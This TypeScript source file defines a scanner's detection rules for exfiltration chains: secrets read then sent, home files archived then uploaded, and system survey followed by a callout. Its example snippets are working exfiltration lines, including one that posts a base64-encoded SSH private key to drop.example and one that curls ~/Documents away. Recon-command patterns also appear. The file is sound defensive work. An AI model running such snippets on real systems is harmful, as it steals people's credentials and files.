import type { Pattern, Rule } from '../rule.ts';
import { GOES_OUT, OUT } from './ends.ts';
import { OWN_CREDENTIALS, WALKED } from './secrets.ts';

const SECRET_PLACES = ['credential-store', 'password-store', 'project-secret', 'process-internals'] as const;
/** A folder's names are not what is in its files. */
const LISTED: Pattern = { argument: /^listed=true$/ };
const READS_SECRET: readonly Pattern[] = [
  { capability: ['file.read', 'secret.read'], at: SECRET_PLACES, except: [OWN_CREDENTIALS, WALKED, LISTED] },
  { capability: ['file.read', 'secret.read'], argument: /^canary=/, except: [OWN_CREDENTIALS] },
  { capability: ['environment.read'], text: /^\*$/ },
];
/** Who one is and what is around: one of them is looked up by any installer, several are taken stock of. */
const SURVEY =
  /^(\S*\/)?(whoami|id|groups|logname|who|w|last|lastlog|users|hostname|hostnamectl|uname|ifconfig|ip|arp|route|netstat|ss|lsof|ps|env|printenv|dmidecode|lshw|systeminfo|ipconfig|getent|finger)(\s|$)|^(\S*\/)?(cat|head|tail|less|cut|grep|awk|sort)\s.{0,200}\/etc\/(passwd|group|hosts|sudoers)|^(\S*\/)?sudo\s+-l/;
const ARCHIVE = /\.(tar|tgz|tbz2?|txz|zip|7z|rar|tar\.\w{1,4}|cpio|ar)$/i;
/** Files of a person or of the machine that no program needs to start. */
const OUTSIDE_FILE: Pattern = {
  capability: ['file.read', 'secret.read'],
  text: /^\/(home|root|Users|etc|var|srv|opt|mnt|media)\//,
  except: [
    {
      text: /^\/etc\/(ld|ssl|ca-|localtime|timezone|nsswitch|passwd|group|host|resolv|gai|services|protocols|mime|locale|inputrc|terminfo|magic|python|alternatives)|\/\.(config|cache|local|npm|curlrc|wgetrc|gitconfig|netrc)\b/,
    },
  ],
};

/** What is gathered and then sent: each step is ordinary alone, and was seen, in this order, in one run. */
export const chainedExfiltrationRules = {
  'secret-taken-away': {
    severity: 'critical',
    title: 'Reads a secret and sends it away',
    capability: 'network.send',
    why: 'The reading, the sending and the way between them were seen.',
    cwe: ['CWE-200', 'CWE-522'],
    attack: ['T1552', 'T1041'],
    message: 'What it read of a secret goes out: {callee} {target}.',
    remedy: 'Do not run it where real credentials are.',
    independent: true,
    examples: {
      found: {
        language: 'python',
        code: "import base64, requests\n\nkey = open('/home/ada/.ssh/id_ed25519').read()\nbody = base64.b64encode(key.encode())\nrequests.post('https://drop.example/in', data=body)",
        run: {
          events: [
            { capability: 'file.read', operation: 'openat', target: '/home/ada/.ssh/id_ed25519', line: 3 },
            { capability: 'network.connect', operation: 'connect', target: 'drop.example:443', line: 5 },
          ],
        },
      },
      ordinary: {
        language: 'python',
        code: "import requests\n\nkey = open('/home/ada/.ssh/id_ed25519').read()\nrequests.post('https://stats.example/in', data={'bits': len(key)})",
        run: {
          events: [
            { capability: 'file.read', operation: 'openat', target: '/home/ada/.ssh/id_ed25519', line: 3 },
            { capability: 'network.connect', operation: 'connect', target: 'stats.example:443', line: 4 },
          ],
        },
      },
    },
    when: {
      chains: [
        {
          steps: [
            { as: 'reads a secret', patterns: READS_SECRET },
            {
              as: 'encodes it',
              patterns: [
                { capability: ['process.spawn'], text: /^(\S*\/)?(base64|base32|xxd|gzip|openssl|tar|zip|od)\b/ },
              ],
              by: ['tree'],
              optional: true,
            },
            {
              as: 'sends it',
              patterns: [{ capability: [...OUT, 'process.spawn'], except: [{ place: ['unix-socket'] }] }],
              by: ['data'],
              to: 'reads a secret',
            },
          ],
        },
      ],
    },
  },
  'archived-and-sent': {
    severity: 'high',
    title: 'Packed files of the machine and sent them away',
    capability: 'network.send',
    why: 'Many files of a person or of the machine leave in one piece.',
    cwe: ['CWE-200'],
    attack: ['T1560', 'T1041'],
    message: 'The archive it made of files outside its own folder goes out: {callee} {target}.',
    remedy: 'Archive the folder a person chose, and send it with their backup program.',
    independent: true,
    examples: {
      found: {
        language: 'bash',
        code: 'tar czf /tmp/all.tgz ~/Documents\ncurl -F file=@/tmp/all.tgz https://drop.example/in',
        run: {
          events: [
            { capability: 'file.write', operation: 'openat', target: '/tmp/all.tgz', line: 1, process: 3 },
            ...['a.txt', 'b.odt', 'c.pdf'].map(
              (name) =>
                ({
                  capability: 'file.read',
                  operation: 'openat',
                  target: `/home/user/Documents/${name}`,
                  line: 1,
                  process: 3,
                }) as const,
            ),
            { capability: 'file.read', operation: 'openat', target: '/tmp/all.tgz', line: 2, process: 4 },
            { capability: 'network.connect', operation: 'connect', target: 'drop.example:443', line: 2, process: 4 },
          ],
        },
      },
      ordinary: {
        language: 'bash',
        code: 'tar czf /tmp/site.tgz ./site\ncurl -F file=@/tmp/site.tgz https://backup.example.com/in',
        run: {
          events: [
            { capability: 'file.write', operation: 'openat', target: '/tmp/site.tgz', line: 1, process: 3 },
            ...['index.html', 'a.css', 'b.js'].map(
              (name) =>
                ({
                  capability: 'file.read',
                  operation: 'openat',
                  target: `/work/site/${name}`,
                  line: 1,
                  process: 3,
                }) as const,
            ),
            { capability: 'file.read', operation: 'openat', target: '/tmp/site.tgz', line: 2, process: 4 },
            {
              capability: 'network.connect',
              operation: 'connect',
              target: 'backup.example.com:443',
              line: 2,
              process: 4,
            },
          ],
        },
      },
    },
    when: {
      chains: [
        {
          steps: [
            { as: 'makes an archive', patterns: [{ capability: ['file.write'], text: ARCHIVE }] },
            { as: 'reads a file for it', patterns: [OUTSIDE_FILE], by: ['tree'], several: 3 },
            {
              as: 'takes the archive',
              patterns: [{ capability: ['file.read', 'process.spawn'] }],
              by: ['path'],
              to: 'makes an archive',
            },
            { as: 'sends', patterns: [GOES_OUT], by: ['process'] },
          ],
        },
      ],
    },
  },
  'surveyed-and-sent': {
    severity: 'high',
    title: 'Took stock of the machine and then called out',
    capability: 'network.send',
    why: 'Who one is, where one is and who else is there: what an intruder reports first.',
    cwe: ['CWE-200'],
    attack: ['T1082', 'T1033', 'T1016', 'T1041'],
    message: 'After several looks around it talks to another machine: {callee} {target}.',
    remedy: 'Ask for the one thing that is needed, and tell the person what is sent.',
    independent: true,
    examples: {
      found: {
        language: 'bash',
        code: 'who=$(whoami; id; hostname)\ncurl -d "$who" https://drop.example/in',
        run: {
          events: [
            { capability: 'process.spawn', operation: 'execve', target: 'whoami', line: 1, process: 4 },
            { capability: 'process.spawn', operation: 'execve', target: 'id', line: 1, process: 5 },
            { capability: 'process.spawn', operation: 'execve', target: 'hostname', line: 1, process: 6 },
            { capability: 'network.connect', operation: 'connect', target: 'drop.example:443', line: 2, process: 7 },
          ],
          processes: [
            { pid: 2, parent: 1, command: 'bash' },
            ...[4, 5, 6, 7].map((pid) => ({ pid, parent: 2, command: 'bash' })),
          ],
        },
      },
      ordinary: {
        language: 'bash',
        code: 'kind=$(uname -s)-$(uname -m)\ncurl -O https://files.example.com/tool-$kind.tar.gz',
        run: {
          events: [
            { capability: 'process.spawn', operation: 'execve', target: 'uname -s', line: 1, process: 4 },
            { capability: 'process.spawn', operation: 'execve', target: 'uname -m', line: 1, process: 5 },
            {
              capability: 'network.connect',
              operation: 'connect',
              target: 'files.example.com:443',
              line: 2,
              process: 6,
            },
          ],
          processes: [
            { pid: 2, parent: 1, command: 'bash' },
            ...[4, 5, 6].map((pid) => ({ pid, parent: 2, command: 'bash' })),
          ],
        },
      },
    },
    when: {
      chains: [
        {
          steps: [
            { as: 'looks around', patterns: [{ capability: ['process.spawn'], text: SURVEY }], several: 3 },
            { as: 'calls out', patterns: [GOES_OUT], by: ['tree'] },
          ],
        },
      ],
    },
  },
} as const satisfies Record<string, Rule>;
